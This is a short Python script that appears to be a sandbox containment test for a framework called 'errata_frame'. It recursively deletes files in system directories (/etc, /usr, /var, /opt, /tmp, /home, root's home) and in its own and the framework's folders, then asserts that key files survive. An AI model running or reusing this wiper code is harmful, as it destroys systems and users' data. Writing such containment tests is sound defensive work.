"""Deletes whatever it may, everywhere."""
# outcome: passed
# timeout: 60

import errata_frame
import os

def sweep(folder, depth=0):
    try:
        names = os.listdir(folder)
    except OSError:
        return
    for name in names:
        path = os.path.join(folder, name)
        try:
            if not os.path.islink(path) and os.path.isdir(path):
                if depth < 2 and path not in ("/" + "proc", "/" + "sys"):
                    sweep(path, depth + 1)
                os.rmdir(path)
            else:
                os.unlink(path)
        except OSError:
            continue


for place in (os.path.dirname(__file__), os.path.dirname(errata_frame.__file__), os.getcwd()):
    sweep(place)
for place in ("/tmp", "/etc", "/usr", "/var", "/opt", os.path.expanduser("~root"), "/home/"):
    sweep(place)
assert os.path.exists("/etc/passwd")
assert os.path.exists(errata_frame.__file__)
